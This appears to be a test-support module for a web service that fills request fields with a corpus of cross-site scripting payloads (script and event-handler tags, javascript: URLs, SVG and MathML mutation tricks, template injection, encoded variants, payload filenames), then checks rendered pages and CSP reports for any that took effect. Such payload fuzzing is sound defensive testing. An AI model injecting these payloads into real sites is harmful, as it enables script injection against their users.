"""Words that become more where markup is made from them: each would call a dialog, ask a host that is not ours, or leave a mark."""

import itertools
from collections.abc import Iterator
from typing import Any

from msgspec import Struct, inspect
from support.bodies import ID_OF

CANARY = "canary.example"
SUM = "{{7*191*1009}}", "1349033"
"""What a template would work out, and what it would then say."""

_TAGS = (
    "<script data-xss>alert(1)</script>",
    f"<script data-xss src=//{CANARY}/1></script>",
    "</script><script data-xss>alert(2)</script>",
    "<ScRiPt data-xss>alert(3)</sCrIpT >",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<img data-xss src=x onerror=alert(5)>",
    f"<img data-xss src=//{CANARY}/2>",
    f"<img data-xss src=x:x srcset='//{CANARY}/3 2x'>",
    "<img data-xss/src/onerror=alert(6)>",
    "<img data-xss src=`x`onerror=alert(7)>",
    "<image data-xss src=x onerror=alert(8)>",
    f"<iframe data-xss src=//{CANARY}/4></iframe>",
    "<iframe data-xss srcdoc='<script>parent.alert(9)</script>'></iframe>",
    f"<object data-xss data=//{CANARY}/5></object>",
    f"<embed data-xss src=//{CANARY}/6>",
    f"<link data-xss rel=stylesheet href=//{CANARY}/7>",
    f"<link data-xss rel=prefetch href=//{CANARY}/8>",
    f"<style data-xss>@import '//{CANARY}/9';</style>",
    f"<base data-xss href=//{CANARY}/>",
    f"<meta data-xss http-equiv=refresh content='0;url=//{CANARY}/10'>",
    f"<form data-xss action=//{CANARY}/11><button autofocus>x",
    f"<video data-xss src=//{CANARY}/12 poster=//{CANARY}/13>",
    f"<audio data-xss src=//{CANARY}/14 onerror=alert(10)>",
    "<details data-xss open ontoggle=alert(11)>",
    "<marquee data-xss onstart=alert(12)>",
    "<body data-xss onload=alert(13)>",
    "<input data-xss autofocus onfocus=alert(14)>",
    "<select data-xss autofocus onfocus=alert(15)>",
    "<dialog data-xss open onclose=alert(16)>",
    "<plaintext data-xss>",
    "<xmp data-xss><p title='</xmp><img data-xss src=x onerror=alert(17)>'>",
)
_ATTRIBUTES = (
    '" data-xss onmouseover=alert(18) x="',
    "' data-xss autofocus onfocus=alert(19) x='",
    '"><img data-xss src=x onerror=alert(20)>',
    "'><svg data-xss onload=alert(21)>",
    "` data-xss onclick=alert(22) `",
    f'" style="background:url(//{CANARY}/15)" data-xss="',
    f"x;background:url(//{CANARY}/16)",
    "</title><img data-xss src=x onerror=alert(23)>",
    "</textarea><img data-xss src=x onerror=alert(24)>",
    "--><img data-xss src=x onerror=alert(25)><!--",
    "]]><img data-xss src=x onerror=alert(26)>",
    "</style><img data-xss src=x onerror=alert(27)>",
    "'-alert(28)-'",
    '";alert(29)//',
    "\\u003cimg data-xss src=x onerror=alert(30)\\u003e",
)
_ADDRESSES = (
    "javascript:alert(31)",
    "JaVaScRiPt:alert(32)",
    "java\tscript:alert(33)",
    " javascript:alert(34)",
    "javascript://%0aalert(35)",
    "data:text/html,<script>alert(36)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzNyk8L3NjcmlwdD4=",
    "vbscript:msgbox(38)",
    "<a data-xss href=javascript:alert(39)>x</a>",
    "<a data-xss href='&#106;avascript:alert(40)'>x</a>",
)
_DRAWINGS = (
    "<svg data-xss onload=alert(41)>",
    "<svg data-xss><script>alert(42)</script></svg>",
    f"<svg data-xss><image href=//{CANARY}/17 /></svg>",
    f"<svg data-xss><use href=//{CANARY}/18#x /></svg>",
    "<svg data-xss><a xlink:href=javascript:alert(43)><text y=20>x</text></a></svg>",
    "<svg data-xss><animate onbegin=alert(44) attributeName=x dur=1s>",
    "<svg data-xss><foreignObject><img src=x onerror=alert(45)></foreignObject></svg>",
    "<math data-xss><mtext><img src=x onerror=alert(46)></mtext></math>",
    "<math data-xss href=javascript:alert(47)>x</math>",
)
_MUTATING = (
    "<noscript><p title='</noscript><img data-xss src=x onerror=alert(48)>'>",
    "<svg></p><style><a id='</style><img data-xss src=x onerror=alert(49)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img data-xss src=1 onerror=alert(50)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img data-xss src onerror=alert(51)>",
    "<template><img data-xss src=x onerror=alert(52)></template>",
    "<table><td><select><iframe data-xss onload=alert(53)>",
)
_WRITTEN = (
    "[x](javascript:alert(54))",
    "[x](<javascript:alert(55)>)",
    f"![x](//{CANARY}/19)",
    f"![x](https://{CANARY}/20 'y\" onload=alert(56) data-xss')",
    "<javascript:alert(57)>",
    "[x]: javascript:alert(58)\n\n[x]",
    "```html\n<img data-xss src=x onerror=alert(59)>\n```",
    f"{SUM[0]}",
    "{{constructor.constructor('alert(60)')()}}",
    "${alert(61)} #{alert(62)} <%= alert(63) %>",
    '{"dangerouslySetInnerHTML":{"__html":"<img data-xss src=x onerror=alert(64)>"}}',
    "v-html=\"'<img data-xss>'\" :onclick=alert(65) @click=alert(66)",
)
_LETTERS = (
    "＜img data-xss src=x onerror=alert(67)＞",
    "%3Cimg data-xss src=x onerror=alert(68)%3E",
    "&lt;img data-xss src=x onerror=alert(69)&gt;",
    "&amp;lt;script&amp;gt;alert(70)&amp;lt;/script&amp;gt;",
    "<img data-xss \u202esrc=x onerror=alert(71)\u202c>",
    "<\u200bimg data-xss src=x onerror=alert(72)>",
    "<img\u2028data-xss src=x onerror=alert(73)>",
    "\ufeff<svg data-xss onload=alert(74)>",
    "+ADw-script+AD4-alert(75)+ADw-/script+AD4-",
    "<im\x00g data-xss src=x onerror=alert(76)>",
)
ROOMS = (6_000, 180, 60)
"""How much is tried in a field, in characters: bounds that are rules stand in no type."""
CORPUS = (*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_DRAWINGS, *_MUTATING, *_WRITTEN, *_LETTERS)
ALL = "\n\n".join(CORPUS)
FILE_NAMES = ("<img data-xss src=x onerror=alert(77)>.txt", "'\"><svg data-xss onload=alert(78)>.txt", "\u202egpj.exe.txt")

LOOK = """(canary) => {
  const wrong = []
  const ours = (address) => { try { return new URL(address, document.baseURI).host !== canary } catch { return true } }
  const look = (root) => {
    for (const one of root.querySelectorAll('*')) {
      const told = one.outerHTML.slice(0, 160)
      for (const { name, value } of one.attributes) {
        if (/^on/i.test(name) || name === 'data-xss' || name === 'srcdoc') wrong.push(`${name}: ${told}`)
        if (/^\\s*(java|vb)script:|^\\s*data:text/i.test(value) && /href|src|action|data/.test(name)) wrong.push(`${name}: ${told}`)
        if (/^(src|srcset|data|poster|action|formaction|background|style)$/.test(name) && value.includes(canary)) wrong.push(told)
        if (name === 'href' && one.localName !== 'a' && !ours(value)) wrong.push(told)
      }
      if (/^(base|object|embed|plaintext|marquee|xmp|frameset|applet)$/.test(one.localName)) wrong.push(told)
      if (one.localName === 'script' && /alert|canary/.test(one.textContent) ) wrong.push(told)
      if (one.shadowRoot) look(one.shadowRoot)
    }
  }
  look(document)
  return wrong.slice(0, 5)
}"""
"""What in a page was made from such words."""
HEAR = """(() => {
  window.__refused = []
  addEventListener('securitypolicyviolation', (event) => window.__refused.push(`${event.violatedDirective} ${event.blockedURI}`), true)
})()"""
"""Hears whatever the page's policy had to stop: nothing should come so far."""


class Poison:
    """Fills the free texts of bodies with the corpus, on from where the last one ended: as many words as a field has room for."""

    def __init__(self) -> None:
        self._next = itertools.cycle(CORPUS)
        self._held = next(self._next)

    def words(self, room: int) -> str:
        """As many of the corpus as fit, one at least where one fits."""
        taken: list[str] = []
        while sum(map(len, taken)) + len(taken) * 2 + len(self._held) <= room and len(taken) < len(CORPUS):
            taken.append(self._held)
            self._held = next(self._next)
        if not taken:
            return next((one for one in (*CORPUS, "<p data-xss>") if len(one) <= room), "x")
        return "  ".join(taken)

    def bodies(self, body: type[Struct], whole: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
        """(fields, a body): every free text at once, then each alone beside what is needed, for where one of them does not take it; less
        each time.
        """
        kind = inspect.type_info(body)
        assert isinstance(kind, inspect.StructType)
        places = list(_texts(kind, (), set()))
        for most in ROOMS:
            yield "*", self._filled(whole, places, most)
        needed = {one.encode_name for one in kind.fields if one.required} | {kind.tag_field}
        for place in places:
            alone = {name: value for name, value in whole.items() if name in needed or name == place[0][0]}
            yield from ((".".join(place[0]), self._filled(alone, [place], most)) for most in ROOMS)

    def _filled(self, whole: Any, places: list[tuple[tuple[str, ...], int]], most: int) -> Any:
        made = whole
        for path, room in places:
            made = _put(made, path, self.words(min(room, most)))
        return made


def _put(whole: Any, path: tuple[str, ...], words: str) -> Any:
    if not path:
        return words
    name, *rest = path
    if name == "[]":
        return [_put(one, tuple(rest), words) for one in whole] if isinstance(whole, list) else whole
    if name == "{}":
        return {key: _put(one, tuple(rest), words) for key, one in whole.items()} if isinstance(whole, dict) else whole
    return {**whole, name: _put(whole[name], tuple(rest), words)} if isinstance(whole, dict) and name in whole else whole


def _texts(kind: Any, path: tuple[str, ...], inside: set[type]) -> Iterator[tuple[tuple[str, ...], int]]:
    """(where, how much) for every free text of a type."""
    if isinstance(kind, inspect.StrType):
        fixed = kind.pattern or path[-1] in {"client_id", "password", *ID_OF}
        yield from () if fixed else ((path, kind.max_length or max(ROOMS)),)
    for name, part in _parts(kind, inside):
        yield from _texts(part, (*path, *name), inside | {getattr(kind, "cls", object)})


def _parts(kind: Any, inside: set[type]) -> list[tuple[tuple[str, ...], Any]]:
    if isinstance(kind, inspect.UnionType):
        return [((), one) for one in kind.types]
    if isinstance(kind, inspect.Metadata):
        return [((), kind.type)]
    if isinstance(kind, inspect.StructType):
        return [] if kind.cls in inside else [((one.encode_name,), one.type) for one in kind.fields]
    if isinstance(kind, inspect.DictType):
        return [(("{}",), kind.value_type)]
    return [(("[]",), kind.item_type)] if isinstance(kind, inspect.ListType | inspect.VarTupleType) else []
